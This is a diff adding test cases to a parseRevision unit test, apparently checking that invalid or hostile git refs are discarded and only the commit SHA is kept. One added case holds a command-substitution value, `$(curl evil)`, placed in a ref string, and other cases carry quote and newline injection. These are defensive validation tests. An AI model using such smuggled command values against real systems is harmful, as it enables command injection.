@@ -14,6 +14,17 @@ describe('parseRevision', () => {
     ['legacy with a nested branch', `release/2026/${SHA}`, { sha: SHA, ref: 'release/2026' }],
     ['bare SHA', SHA, { sha: SHA }],
     ['upper-case SHA', SHA.toUpperCase(), { sha: SHA }],
+    ['tag with a plus', `v1.2.3+build.7@sha1:${SHA}`, { sha: SHA, ref: 'v1.2.3+build.7' }],
+    // What no git ref may be, or what a payload must not carry: the commit alone, without the ref.
+    ['ref with quotes', `main"'@sha1:${SHA}`, { sha: SHA }],
+    ['ref with a command substitution', `$(curl evil)@sha1:${SHA}`, { sha: SHA }],
+    ['ref with a newline', `main\nx@sha1:${SHA}`, { sha: SHA }],
+    ['ref with a space', `my branch@sha1:${SHA}`, { sha: SHA }],
+    ['ref with ".."', `a..b@sha1:${SHA}`, { sha: SHA }],
+    ['ref ending in ".lock"', `main.lock@sha1:${SHA}`, { sha: SHA }],
+    ['ref with an empty part', `a//b@sha1:${SHA}`, { sha: SHA }],
+    ['ref part starting with a dot', `a/.b@sha1:${SHA}`, { sha: SHA }],
+    ['ref of 300 characters', `${'a'.repeat(300)}@sha1:${SHA}`, { sha: SHA }],
   ])('finds the commit in a %s revision', (_, revision, expected) => {
     // Act
     const result = parseRevision(revision);
